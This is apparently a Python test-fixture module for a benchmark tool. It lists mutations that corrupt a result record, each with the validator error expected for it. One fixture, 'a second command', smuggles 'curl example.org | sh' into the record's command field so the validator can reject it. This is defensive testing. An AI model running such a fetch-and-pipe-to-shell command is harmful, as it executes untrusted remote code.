"""Changes by which a record contradicts itself, each with what is told of it, and the records that they are made in."""

import functools
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from xorbench import places
from xorbench.record.timing import SERIES
from xorbench.studies.injection import records

Json = dict[str, Any]

Change = Callable[[Json], object]

BASE = "amd-epyc-family-25-model-17-2-cores-linux-x86-64/2026-11-26T192944Z.json"


@functools.cache
def base() -> str:
    return (places.results() / BASE).read_text(encoding="utf-8")


def of(record: Json, name: str = "jax_grad") -> list[Json]:
    return [timing for timing in record["timings"] if timing["implementation"] == name]


def each(record: Json, **values: object) -> None:
    """Give every timing of jax_grad other values."""
    for timing in of(record):
        timing.update(values)


def observed(record: Json, **values: object) -> None:
    """Give every ledger of jax_grad other values."""
    for timing in of(record):
        timing["ledger"].update(values)


def scaled(record: Json, factor: float) -> None:
    for timing in record["timings"]:
        for key in ("round_nanoseconds", "cpu_nanoseconds"):
            timing[key] = [max(1, round(value * factor)) for value in timing[key]]


def row(record: Json, kind: str = "rows", name: str = "jax_grad", dtype: str = "float64") -> Json:
    """Return the first entry of the judge's report about an implementation."""
    found: Json = next(
        r
        for r in record["gradients"][kind]
        if name in (r.get("implementation"), r.get("first")) and r.get("dtype", dtype) == dtype
    )
    return found


def tomorrow(days: int) -> str:
    return (datetime.now(UTC) + timedelta(days=days)).strftime("%Y-%m-%dT%H:%M:%SZ")


def trained(record: Json, name: str = "jax_grad") -> Json:
    return row(record, "endings", name)


CHANGES: dict[str, tuple[Change, str]] = {
    "an implementation twice": (
        lambda r: r["implementations"].append(r["implementations"][0]),
        "$.implementations: 'numpy_backprop' is there 2 times, expected once",
    ),
    "a trajectory with too few losses": (
        lambda r: r["gradients"]["trajectories"][0]["loss"].pop(),
        "$.gradients.trajectories[0].loss: ",
    ),
    "a trajectory with a distance of no epoch": (
        lambda r: r["gradients"]["trajectories"][0]["from_reference"].append(0.0),
        "$.gradients.trajectories[0].from_reference: ",
    ),
    "a trajectory with more truths than epochs": (
        lambda r: r["gradients"]["trajectories"][0].update(from_truth=[0.0] * 10_000),
        "$.gradients.trajectories[0].from_truth: 10000 values, expected at most ",
    ),
    "a trajectory whose epochs do not rise": (
        lambda r: r["gradients"]["trajectories"][0]["at"].reverse(),
        "$.gradients.trajectories[0].at: expected rising epochs up to 10000",
    ),
    "no launches": (lambda r: r["launches"].clear(), "$.timings[0].launch: 0, expected less than 0"),
    "a launch left out": (lambda r: r["launches"].pop(0), "$.launches: the numbers are [1, 2"),
    "a timing of a launch that is not there": (
        lambda r: r["timings"][0].update(launch=99),
        "$.timings[0].launch: 99, expected less than 10",
    ),
    "a timing of an unknown implementation": (
        lambda r: r["timings"][0].update(implementation="other"),
        "$.timings[0].implementation: 'other' is no implementation of the record",
    ),
    "a timing of an unknown workload": (
        lambda r: r["timings"][0].update(workload="other"),
        "$.timings[0].workload: 'other' is no workload of the record",
    ),
    "a judgement on an unknown implementation": (
        lambda r: row(r).update(implementation="other"),
        "implementation: 'other' is no implementation of the record",
    ),
    "no baseline": (
        lambda r: r.update(implementations=[i for i in r["implementations"] if i["name"] != "numpy_backprop"]),
        "'numpy_backprop' is no implementation of the record",
    ),
    "a date of the far future": (lambda r: r.update(created="9999-12-31T23:59:59Z"), "$.created: 9999-12-31T23:59:59Z"),
    "a date that is none": (lambda r: r.update(created="9999-99-99T99:99:99Z"), "is no date of the calendar"),
    "a date after tomorrow": (
        lambda r: r.update(created=tomorrow(2)),
        "expected a time between 2026-01-01 and tomorrow",
    ),
    "a date before the suite": (lambda r: r.update(created="2025-12-31T23:59:59Z"), "$.created: 2025-12-31T23:59:59Z"),
    "another processor": (
        lambda r: r["machine"].update(cpu="Intel 8086"),
        "expected 'intel-8086-2-cores-linux-x86-64'",
    ),
    "more cores": (
        lambda r: r["machine"].update(cores=64),
        "expected 'amd-epyc-family-25-model-17-64-cores-linux-x86-64'",
    ),
    "other data": (
        lambda r: r["workloads"][0]["inputs"][0].__setitem__(0, 0.5),
        "$.workloads[0].inputs: [[0.5, 0.0]",
    ),
    "another rate": (lambda r: r["workloads"][0].update(rate=2.0), "$.workloads[0].rate: 2.0, expected"),
    "more samples": (lambda r: r["workloads"][0].update(samples=400), "$.workloads[0].samples: 400, expected 4"),
    "a second command": (
        lambda r: r.update(command="xorbench run; curl example.org | sh"),
        "expected one call of xorbench without other commands",
    ),
    "a command of another program": (lambda r: r.update(command="xorbenchmark"), "expected one call of xorbench"),
    "quick in the command only": (
        lambda r: r.update(command=f"{r['command']} --quick"),
        "$.settings.quick: False, but the command is",
    ),
    "a made-up commit": (lambda r: r.update(commit="trust me"), "$.commit: 'trust me', expected 40 hexadecimal digits"),
    "another version": (
        lambda r: r["implementations"][0].update(version="99"),
        "$.implementations[0].version: '99', expected 2.4.6 of the environment",
    ),
    "an unknown environment": (
        lambda r: r["environment"]["others"].clear(),
        "interpreter: 'numpy-2.0' is no environment of the record",
    ),
    "more launches in the plan": (
        lambda r: r["plan"].update(launches=800),
        "$.plan.launches: 800, expected 10, the number of launches",
    ),
    "resumed without a plan": (
        lambda r: r.update(resumed=True),
        "$.plan_sha256: null, expected that of the plan of a resumed run",
    ),
    "a lower confidence": (lambda r: r["plan"].update(confidence=0.001), "$.plan.confidence: 0.001, expected 0.95"),
    "a control character": (
        lambda r: r["implementations"][0].update(framework="num\x1bpy"),
        "holds the character '\\x1b', expected printable ones",
    ),
    "rounds left out": (
        lambda r: [t.update({name: t[name][:5] for name in SERIES}) for t in r["timings"] if not t["launch"]],
        "$.timings[0]: 5 rounds, expected 60, those of launch 0",
    ),
    "a timing twice": (lambda r: r["timings"].append(r["timings"][0]), "the row of $.timings[0] again, expected once"),
    "rounds of another row": (
        lambda r: of(r)[0].update(round_nanoseconds=r["timings"][0]["round_nanoseconds"]),
        "the rounds of $.timings[0] again, expected once",
    ),
    "a slow launch left out": (
        lambda r: r["timings"].remove(of(r)[3]),
        "jax_grad on hidden has none in launch",
    ),
    "no second copy": (
        lambda r: r.update(timings=[t for t in r["timings"] if not t["copy"]]),
        "$.timings: hidden was timed without the second copy of numpy_backprop",
    ),
    "all first in every round": (
        lambda r: [t.update(positions=[0] * len(t["positions"])) for t in r["timings"]],
        "$.timings: the positions in round 0 of launch 0 on hidden are [0, 0, 0",
    ),
    "positions out of range": (
        lambda r: r["timings"][0].update(positions=[10**6] * len(r["timings"][0]["positions"])),
        "each once",
    ),
    "more epochs": (lambda r: each(r, epochs=[10**9, 5 * 10**8] * 30), "expected an even number of at most 100000"),
    "more epochs in one launch": (
        lambda r: of(r)[0].update(epochs=[2 * number for number in of(r)[0]["epochs"]]),
        "epochs: ",
    ),
    "rounds of one length": (lambda r: each(r, epochs=[100] * 60), "not 100 and 50 epochs in turn"),
    "rounds of one nanosecond": (
        lambda r: of(r)[0].update(round_nanoseconds=[1 + n % 2 for n in range(60)], cpu_nanoseconds=[1] * 60),
        "a round of 1 ns, expected at least 50",
    ),
    "equal rounds": (
        lambda r: of(r)[0].update(round_nanoseconds=[3_000_000] * 60),
        "all rounds took 3000000 ns, expected different times",
    ),
    "rounds a thousand times as short": (
        lambda r: of(r, "jax_scan")[0].update(
            round_nanoseconds=[1000 + n for n in range(60)], cpu_nanoseconds=[1000 + n for n in range(60)]
        ),
        "for its products",
    ),
    "rounds a thousand times as long": (lambda r: scaled(r, 1000), "its rounds took"),
    "a launch shorter than its turns": (lambda r: r["launches"][0].update(seconds=0.001), "its turns took"),
    "steal of years": (lambda r: r["launches"][0].update(steal_seconds=1e308), "$.launches[0].steal_seconds: 1e+308"),
    "a negative load": (lambda r: r["launches"][0].update(load_1_minute=-1.0), "a negative load or frequency"),
    "a run shorter than its launches": (lambda r: r["seconds"].update(total=1.0), "$.seconds.total: 1.000 s, expected"),
    "launches longer than their stage": (lambda r: r["seconds"].update(launches=0.5), "$.seconds.launches: 0.500 s"),
    "cold starts of years": (
        lambda r: r["cold_starts"][0].update(import_seconds=1e9),
        "$.seconds.cold_starts: ",
    ),
    "more cold starts": (
        lambda r: r["cold_starts"].append(r["cold_starts"][0] | {"import_seconds": 1e-9, "first_call_seconds": 1e-9}),
        "expected at most 1, the number in the settings",
    ),
    "waiting for years": (
        lambda r: each(r, waited_nanoseconds=[10**15] * 60),
        "s in all, expected at most",
    ),
    "results that were not synchronised": (
        lambda r: observed(r, late_nanoseconds=10**9),
        "violations: it is empty, expected: its result was not synchronised",
    ),
    "results in float32": (
        lambda r: observed(r, result_dtype="float32"),
        "violations: it is empty, expected: its results are float32, expected float64",
    ),
    "the same arrays again": (
        lambda r: observed(r, same_arrays=True),
        "violations: it is empty, expected: a round returned arrays of an earlier round",
    ),
    "garbage collection": (
        lambda r: observed(r, collecting=True),
        "violations: it is empty, expected: garbage collection was enabled",
    ),
    "two CPUs": (lambda r: observed(r, cpus=[0, 1]), "violations: it is empty, expected: its CPU affinity is [0, 1]"),
    "a large pool": (
        lambda r: observed(r, pools=[{"library": "openblas", "version": "1", "threads": 64}]),
        "violations: it is empty, expected: its openblas thread pool has 64 threads",
    ),
    "other parameters": (
        lambda r: observed(r, parameters_sha256="0" * 64),
        "violations: it is empty, expected: it started from other parameters",
    ),
    "Python in a compiled loop": (
        lambda r: observed(r, entered_later=100),
        "violations: it is empty, expected: it is declared compiled, but",
    ),
    "CPU time of child processes": (
        lambda r: [t["usage"].update(child_nanoseconds=10**11) for t in of(r)],
        "violations: it is empty, expected: its child processes used",
    ),
    "a process that was left running": (
        lambda r: r["launches"][0].update(left={"jax_grad": "sleep"}),
        "violations: it is empty, expected: it left a process running after its launch: sleep",
    ),
    "an end that is wrong": (
        lambda r: [e.update(end=[v + 1 for v in e["end"]]) for t in of(r) for e in t["ends"]],
        "violations: it is empty, expected: the end of round ",
    ),
    "an end of a round that is not there": (
        lambda r: of(r)[0]["ends"][0].update(round=9_999),
        ".ends[0].round: 9999, expected less than ",
    ),
    "no end was compared": (
        lambda r: each(r, ends=[], compared_rounds=0),
        "compared_rounds: none, expected what was observed of the worker",
    ),
    "inside with five bounds": (
        lambda r: row(r)["of_bound"].update(largest=5.0),
        "verdict: inside with an error of 5.0 bounds, expected at most 1",
    ),
    "inside with no number": (
        lambda r: row(r)["of_bound"].update(largest=None),
        "verdict: inside with an error of None bounds, expected at most 1",
    ),
    "outside within the bound": (lambda r: row(r).update(verdict="outside"), "expected inside"),
    "a pair that is far apart": (
        lambda r: row(r, "pairs").update(difference_over_bound=3.0),
        "verdict: inside with a difference of 3.0 bounds",
    ),
    "a pair that is called outside": (
        lambda r: row(r, "pairs").update(verdict="outside"),
        "verdict: outside with a difference of",
    ),
    "an audit that disagrees": (
        lambda r: r["gradients"]["audits"][0].update(verdict="outside"),
        "$.gradients.audits[0].verdict: outside, expected inside",
    ),
    "another number of threads": (
        lambda r: r["environment"]["variables"].update(OMP_NUM_THREADS="64"),
        "$.environment.variables.OMP_NUM_THREADS: '64', expected 1",
    ),
    "another seed": (lambda r: r["settings"].update(seed=7), "$.settings.seed: 7, but the command is"),
    "other launches than in the command": (
        lambda r: r["settings"].update(launches=3),
        "$.settings: 3 by --launches, but the command is",
    ),
    "an audit of three digits": (
        lambda r: r["gradients"]["audits"][0].update(digits=3.0),
        "$.gradients.audits[0].verdict: inside with 3.0 digits in common",
    ),
    "another prediction": (
        lambda r: trained(r)["predictions"].__setitem__(0, 0.5),
        "predictions: [0.5, ",
    ),
    "another loss": (lambda r: trained(r).update(loss=1e-9), "loss: 1e-09, expected"),
    "another difference": (
        lambda r: trained(r).update(difference_from_reference=0.5),
        "difference_from_reference: 0.5, expected",
    ),
    "no trained parameters": (
        lambda r: trained(r).update(parameters=None),
        "expected those of a training that is inside",
    ),
    "no gradients": (
        lambda r: r["gradients"].update(rows=[]),
        "was timed on hidden, but its gradient by W1 was not judged",
    ),
    "gradients in float32 alone": (
        lambda r: r["gradients"].update(rows=[x for x in r["gradients"]["rows"] if x["dtype"] == "float32"]),
        "but its gradient by W1 was not judged",
    ),
    "one tensor not judged": (
        lambda r: r["gradients"]["rows"].remove(row(r)),
        "jax_grad was timed on hidden, but its gradient by W1 was not judged",
    ),
    "no conduct": (lambda r: r["gradients"].update(conduct=[]), "was timed on hidden, but was not asked twice"),
    "one ending left out": (
        lambda r: r["gradients"]["endings"].remove(trained(r)),
        "jax_grad was timed on hidden, but its trained parameters were not judged",
    ),
    "timed although it failed": (
        lambda r: row(r, "conduct").update(verdict="failed", reason="it keeps state"),
        "jax_grad was timed on hidden, but its verdict is failed",
    ),
    "timed although it is missing": (
        lambda r: next(i for i in r["implementations"] if i["name"] == "jax_grad").update(missing="not installed"),
        "jax_grad was timed, but it is missing or broken",
    ),
}

TRACEBACKS: dict[str, tuple[Change, str]] = {
    "rounds of one timing left out": (
        lambda r: of(r)[0]["round_nanoseconds"].__delitem__(slice(5, None)),
        "round_nanoseconds: 5 rounds, expected 6",
    ),
    "three positions": (lambda r: of(r)[0].update(positions=[0, 1, 2]), "positions: 3 rounds, expected 6"),
    "one position": (lambda r: of(r)[0].update(positions=[0]), "positions: 1 rounds, expected 6"),
    "one wait": (lambda r: of(r)[0].update(waited_nanoseconds=[0]), "waited_nanoseconds: 1 rounds, expected 6"),
    "a round of 10^25 ns": (
        lambda r: of(r)[0]["round_nanoseconds"].__setitem__(0, 10**25),
        "round_nanoseconds[0]: Input should be less than or equal to 9223372036854775807",
    ),
    "a round of 10^25 ns in the control": (
        lambda r: of(r, "numpy_backprop")[0]["round_nanoseconds"].__setitem__(0, 10**25),
        "round_nanoseconds[0]: Input should be less than or equal to 9223372036854775807",
    ),
    "10^400 epochs": (
        lambda r: of(r)[0]["epochs"].__setitem__(0, 10**400),
        "epochs[0]: Input should be less than or equal to 9223372036854775807",
    ),
    "a seed that no generator takes": (
        lambda r: of(r)[0]["ends"][0].update(seed=2**32),
        "ends[0].seed: Input should be less than or equal to 4294967295",
    ),
    "an unknown activation": (
        lambda r: r["workloads"][0].update(activation="x"),
        "$.workloads[0].activation: Input should be 'sigmoid'",
    ),
    "the baseline left out of the implementations": (
        lambda r: r["implementations"].pop(0),
        "'numpy_backprop' is no implementation of the record",
    ),
    "another left out of the implementations": (
        lambda r: r["implementations"].pop(1),
        "'jax_grad' is no implementation of the record",
    ),
    "another name of an implementation": (
        lambda r: r["implementations"][1].update(name="other"),
        "'jax_grad' is no implementation of the record",
    ),
    "another name of the workload": (
        lambda r: r["workloads"][0].update(name="other"),
        "workload: 'hidden' is no workload of the record",
    ),
    "a half of a character": (
        lambda r: r["implementations"][0].update(version="\udcff"),
        "is not a record: ",
    ),
    "a version of the schema that is no integer": (lambda r: r.update(schema=6.0), "$.schema: 6.0, expected one of"),
}
"""Changes of a record that passed the schema and gave a traceback, and what is told of each today."""


@functools.cache
def smallest() -> str:
    return records.smallest()


def first(record: Json, key: str = "timings") -> Json:
    found: Json = record[key][0]
    return found


def report_without(name: str) -> Change:
    return lambda record: record["gradients"].update({name: []})


OF_SMALLEST: dict[str, tuple[Change, str]] = {
    "fewer epochs used than timed": (
        lambda r: first(r)["usage"].update(epochs=sum(first(r)["epochs"]) - 1),
        "$.timings[0].usage.epochs: ",
    ),
    "no usage": (lambda r: first(r).update(usage=None), "$.timings[0].usage: none, expected what was observed"),
    "no ends": (lambda r: first(r).update(ends=[]), "$.timings[0].ends: none, expected what was observed"),
    "a row of the older clock": (
        lambda r: first(r)["ledger"].update(late_nanoseconds=None),
        "$.timings: some have a late_nanoseconds and some have none",
    ),
    "the older clock with newer observations": (
        lambda r: [t["ledger"].update(late_nanoseconds=None) for t in r["timings"]],
        "$.timings[0].usage: there is one, expected none beside a late_nanoseconds that is null",
    ),
    "rounds of one length": (
        lambda r: (
            first(r).update(usage=None, ends=[], compared_rounds=0, epochs=first(r)["epochs"][:1] * 4)
            or first(r)["ledger"].update(late_nanoseconds=None)
        ),
        "$.timings: some have a late_nanoseconds and some have none",
    ),
    "an end of one parameter": (
        lambda r: first(r)["ends"][0].update(start=[0.0], end=[1.0], expected=[1.0]),
        "$.timings[0].ends[0].start: [0.0], expected 3 parameters, which the seed ",
    ),
    "an end of another start": (
        lambda r: first(r)["ends"][0].update(seed=first(r)["ends"][0]["seed"] + 1),
        "$.timings[0].ends[0].start: ",
    ),
    "the same end twice": (
        lambda r: first(r).update(ends=first(r)["ends"] * 2, compared_rounds=4),
        "$.timings[0].ends[1].round: ",
    ),
    "more compared rounds than rounds": (
        lambda r: first(r).update(compared_rounds=5),
        "$.timings[0].compared_rounds: 5, expected at most 4",
    ),
    "no purity": (
        lambda r: r["gradients"]["conduct"][0].update(same_process=None),
        "$.gradients.conduct[0].same_process: null, expected true or false",
    ),
    "a conduct that does not decide": (
        lambda r: r["gradients"]["conduct"][0].update(decides=False, verdict="failed", reason="it keeps state"),
        "$.gradients.conduct[0].decides: false in float64, in which neuron is timed",
    ),
    "inside with a reason": (
        lambda r: r["gradients"]["rows"][0].update(reason="wrong"),
        "$.gradients.rows[0].verdict: inside, but there is a reason: wrong",
    ),
    "no points asked": (report_without("asked"), "$.gradients.asked: none, expected the numbers of points"),
    "no factors": (report_without("biases"), "$.gradients.biases: none of neuron in float64"),
    "no audit": (report_without("audits"), "$.gradients.audits: none of neuron in float64"),
    "no pairs": (report_without("pairs"), "$.gradients.pairs: autograd_grad was compared with no other on neuron"),
    "no trained networks": (report_without("endings"), "but its trained parameters were not judged"),
    "a quantity that was not judged": (
        lambda r: r["gradients"].update(
            rows=[
                o for o in r["gradients"]["rows"] if (o["implementation"], o["parameter"]) != ("autograd_grad", "loss")
            ]
        ),
        "autograd_grad was timed on neuron, but loss was not judged, as of numpy_backprop",
    ),
    "a quantity twice": (
        lambda r: r["gradients"]["rows"].append(r["gradients"]["rows"][0]),
        "numpy_backprop neuron float64 W1 again, expected once",
    ),
    "an error of what is missing": (
        lambda r: r["gradients"]["rows"][0].update(verdict="not offered"),
        "$.gradients.rows[0].verdict: not offered, but there is an error of ",
    ),
    "a mistake of what passed": (
        lambda r: r["gradients"]["mistakes"].append(
            {
                "implementation": "autograd_grad",
                "workload": "neuron",
                "dtype": "float64",
                "text": "a known mistake: none",
            }
        ),
        "$.gradients.mistakes[0]: autograd_grad on neuron in float64, which has no wrong answer",
    ),
    "another number of points": (
        lambda r: r["gradients"].update(points=10**9),
        "$.gradients.points: 1000000000, expected ",
    ),
    "another seed of the judge": (lambda r: r["gradients"].update(seed=77), "$.gradients.seed: 77, expected 0"),
    "more launches in the settings": (
        lambda r: r["settings"].update(launches=10, rounds=4),
        "$.settings.launches: 10, expected 2, the number of launches",
    ),
    "more rounds in the plan": (lambda r: r["plan"].update(rounds=6), "$.launches[0].rounds: 4, expected 6"),
    "more launches of the pilot": (
        lambda r: r["plan"].update(pilot_launches=99),
        "$.plan.pilot_launches: 99, expected at most 2",
    ),
    "a cold start in no time": (
        lambda r: first(r, "cold_starts").update(import_seconds=1e-300),
        "$.cold_starts[0].import_seconds: 1e-300, expected at least the clock's resolution",
    ),
    "a process without memory": (
        lambda r: first(r, "cold_starts").update(peak_bytes=1),
        "$.cold_starts[0].peak_bytes: 1, expected at least 1048576",
    ),
    "a product in no time": (
        lambda r: r["products"].append(
            {"implementation": "autograd_grad", "dtype": "float64", "side": 1024, "nanoseconds": [1]}
        ),
        "$.products[0].nanoseconds: 1 ns, expected at least ",
    ),
    "another command": (lambda r: r.update(command="xorbench frobnicate"), "$.kind: 'run', but the command is "),
    "another kind": (lambda r: r.update(kind="sweep"), "$.kind: 'sweep', but the command is "),
    "a sweep by its settings": (lambda r: r["settings"].update(sweep=True), "$.settings.sweep: True, but the kind is"),
    "other points in the command": (
        lambda r: r.update(command="xorbench run --points 5"),
        " by --points, but the command is ",
    ),
    "neither launches nor a budget": (
        lambda r: r["settings"].update(budget_minutes=None),
        "$.settings: neither launches nor budget_minutes",
    ),
    "a CPU that is not there": (
        lambda r: r["settings"].update(cpu=8192),
        "$.settings.cpu: 8192, expected less than 8192",
    ),
    "more threads than cores": (
        lambda r: r["settings"].update(threads=3),
        "$.settings.threads: 3, but the machine has 2 cores",
    ),
    "processes left by nobody": (
        lambda r: first(r, "launches").update(left={"nobody": "sleep"}),
        "$.launches[0].left: 'nobody' is no implementation of the record",
    ),
}
"""Changes of a record of a run that was cut to two implementations, two launches and four rounds."""
